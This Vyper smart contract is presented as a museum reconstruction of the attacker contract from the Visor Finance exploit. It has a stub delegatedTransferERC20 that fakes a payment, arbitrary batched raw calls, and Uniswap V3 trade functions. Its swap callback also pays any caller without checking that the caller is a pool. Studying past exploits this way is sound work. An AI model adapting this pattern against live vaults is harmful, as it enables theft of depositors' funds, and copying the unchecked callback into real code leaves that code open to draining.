# pragma version 0.4.3
"""
@title   For the museum only: the thief's contract: makes any calls in one transaction, trades, and pays nobody it owes
@license Apache-2.0
"""

from ethereum.ercs import IERC20
from interfaces import IPool

MOST_DATA: constant(uint256) = 1_024


struct Call:
    target: address
    data: Bytes[MOST_DATA]


@external
def act(target: address, data: Bytes[MOST_DATA]):
    raw_call(target, data)


@external
def batch(calls: DynArray[Call, 200]):
    for call: Call in calls:
        raw_call(call.target, call.data)


@external
def delegatedTransferERC20(token: address, to: address, amount: uint256):
    """@notice The promise of Visor's depositors, not kept."""
    pass


@external
def trade(pool: address, zero_for_one: bool, amount: int256, limit: uint160):
    """@notice Trade on a Uniswap V3 pool until the price limit, with this contract's own money."""
    extcall IPool(pool).swap(self, zero_for_one, amount, limit, b"")


@external
def uniswapV3SwapCallback(amount0: int256, amount1: int256, data: Bytes[1]):
    for token: address in [staticcall IPool(msg.sender).token0(), staticcall IPool(msg.sender).token1()]:
        amount: int256 = amount0 if token == staticcall IPool(msg.sender).token0() else amount1
        if amount > 0:
            assert extcall IERC20(token).transfer(msg.sender, convert(amount, uint256), default_return_value=True)
